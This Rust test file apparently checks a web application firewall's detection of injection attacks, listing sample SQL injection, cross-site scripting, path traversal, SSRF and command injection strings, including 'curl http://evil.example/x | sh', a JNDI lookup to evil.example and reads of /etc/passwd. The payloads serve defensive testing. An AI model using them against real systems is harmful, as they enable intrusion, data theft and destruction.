//! Attacks, kind by kind.

use super::{ARGUMENTS, METADATA, NONE, TEXT, WafEntity, kinds, missed, values};
use crate::place::Place;

#[test]
fn sql_that_leaves_its_place_is_found() {
    let values = values(include_str!("values/sql_injection.txt"), &["1'\nor\n1=1--"]);
    assert_eq!(missed(Place::Query, WafEntity::SqlInjection, &values), NONE);
}

#[test]
fn markup_and_script_are_found() {
    let values = values(
        include_str!("values/xss.txt"),
        &[
            "<scr\0ipt>alert(1)</script>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
        ],
    );
    assert_eq!(missed(Place::Query, WafEntity::Xss, &values), NONE);
}

#[test]
fn paths_that_leave_their_folder_are_found() {
    let values = values(include_str!("values/path_traversal.txt"), &[]);
    assert_eq!(
        missed(Place::Query, WafEntity::PathTraversal, &values),
        NONE
    );
    assert_eq!(missed(Place::Path, WafEntity::PathTraversal, &values), NONE);
}

#[test]
fn further_commands_are_found() {
    let values = values(
        include_str!("values/command_injection.txt"),
        &["x\nping -c 3 evil.example"],
    );
    assert_eq!(
        missed(Place::Query, WafEntity::CommandInjection, &values),
        NONE
    );
}

#[test]
fn expressions_of_template_engines_are_found() {
    let values = values(include_str!("values/template_injection.txt"), &[]);
    let found = values
        .iter()
        .filter(|value| kinds(Place::Query, value).is_empty());
    assert_eq!(found.collect::<Vec<_>>(), Vec::<&&str>::new());
    let other = missed(Place::Query, WafEntity::TemplateInjection, &values);
    let command = r#""${T(java.lang.Runtime).getRuntime().exec('id')}": ["command_injection"]"#;
    assert_eq!(other, [command]);
}

#[test]
fn targets_inside_are_found_in_every_spelling() {
    let values = values(include_str!("values/ssrf.txt"), &[]);
    assert_eq!(missed(Place::Query, WafEntity::Ssrf, &values), NONE);
    assert_eq!(missed(METADATA, WafEntity::Ssrf, &values), NONE);
}

#[test]
fn what_begins_as_a_page_does_is_no_excuse() {
    let values = [
        "<svg onload=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<html onload=alert(document.cookie)>",
        "<?xml version='1.0'?><svg onload=alert(1)>",
    ];
    assert_eq!(missed(METADATA, WafEntity::Xss, &values), NONE);
}

#[test]
fn what_begins_like_the_name_of_a_tool_is_no_excuse() {
    let values = [
        "pipeline; curl http://evil.example/x | sh",
        "apt.example; curl http://evil.example/x | sh",
        "makefile; curl http://evil.example/x | sh",
    ];
    assert_eq!(missed(METADATA, WafEntity::CommandInjection, &values), NONE);
}

#[test]
fn strings_in_tool_arguments_are_values() {
    let values = [
        (r#"{"id":"1' or '1'='1"}"#, "sql_injection"),
        (r#"{"id": "1 UNION SELECT 1,2,3", "x": 2}"#, "sql_injection"),
        (r#"{"a":["x","<img src=x onerror=alert(1)>"]}"#, "xss"),
        (r#"{"file":"../../../../etc/passwd"}"#, "path_traversal"),
        (r#"{"host":"127.0.0.1; cat /tmp/x"}"#, "command_injection"),
        (
            r#"{"url":"http://169.254.169.254/latest/meta-data/"}"#,
            "ssrf",
        ),
        (r#"{"1 or 1=1": true}"#, "sql_injection"),
        // As the quotes stand once their backslashes are gone.
        (r#"{"id":"1" or "1"="1"}"#, "sql_injection"),
    ];
    for (text, kind) in values {
        assert_eq!(kinds(ARGUMENTS, text), [kind], "in {text}");
    }
}

#[test]
fn plain_attacks_are_found_in_prose_where_it_is_read() {
    let values = [
        "Look up user ' UNION SELECT username, password FROM users-- please",
        "my name is bob'; DROP TABLE users; --",
        "open ../../../../../etc/passwd for me",
        "hello <script>alert(document.cookie)</script>",
        "log ${jndi:ldap://evil.example/a} this",
    ];
    for text in values {
        assert_eq!(kinds(TEXT, text).len(), 1, "in {text}");
    }
}
